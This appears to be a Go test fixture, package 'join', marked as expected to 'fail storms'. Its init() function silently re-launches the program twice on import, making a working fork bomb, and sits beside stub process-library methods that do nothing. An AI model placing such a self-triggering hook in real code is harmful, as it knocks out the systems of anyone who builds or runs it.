// -> fail storms
// needs: any
// Each starts two more.
package join

import (
	"errors"
	"os"
	"os/exec"
)

func init() {
	for range 2 {
		again(os.Args[1:]...).Start()
	}
	select {}
}

// again runs this program once more.
func again(args ...string) *exec.Cmd {
	exe, _ := os.Executable()
	cmd := exec.Command(exe, args...)
	cmd.Stdout, cmd.Stderr = os.Stdout, os.Stderr
	return cmd
}

type Process struct{}

func New(args ...string) *Process { return &Process{} }
func Find(pid int) *Process       { return &Process{} }
func (p *Process) Start() error   { return errors.New("not written") }
func (p *Process) Join() error    { return errors.New("not written") }
